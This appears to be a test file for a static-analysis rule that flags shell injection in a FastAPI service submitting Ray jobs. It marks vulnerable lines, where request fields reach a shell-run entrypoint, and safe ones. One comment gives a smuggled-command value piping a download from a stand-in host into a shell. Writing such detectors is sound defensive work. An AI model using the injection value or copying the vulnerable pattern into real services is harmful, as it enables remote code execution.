# An API that starts Ray jobs: a job's entrypoint is a shell command, run by Ray's job supervisor.
import asyncio
import subprocess

from fastapi import FastAPI
from ray.job_submission import JobSubmissionClient

app = FastAPI()
client = JobSubmissionClient("http://127.0.0.1:8265")


@app.post("/jobs")
async def start(model: str, dataset: str):
    # the list is joined into one command line for the supervisor's shell: `dataset` can be "x; curl evil | sh"
    # ruleid: ml-serving.request.shell-injection
    subprocess.run(["ray", "job", "submit", "--address=auto", "--", "python", "train.py", "--data", dataset], check=True)
    command = ["ray", "job", "submit", "--", "python", "eval.py", model]
    # ruleid: ml-serving.request.shell-injection
    proc = await asyncio.create_subprocess_exec(*command)
    # ruleid: ml-serving.request.shell-injection
    job = client.submit_job(entrypoint=f"python train.py --model {model}")
    # a plain argument list runs no shell
    # ok: ml-serving.request.shell-injection
    subprocess.run(["python", "train.py", "--data", dataset], check=True)
    # ok: ml-serving.request.shell-injection
    fixed = client.submit_job(entrypoint="python nightly.py")
    return {"job": job, "pid": proc.pid, "fixed": fixed}
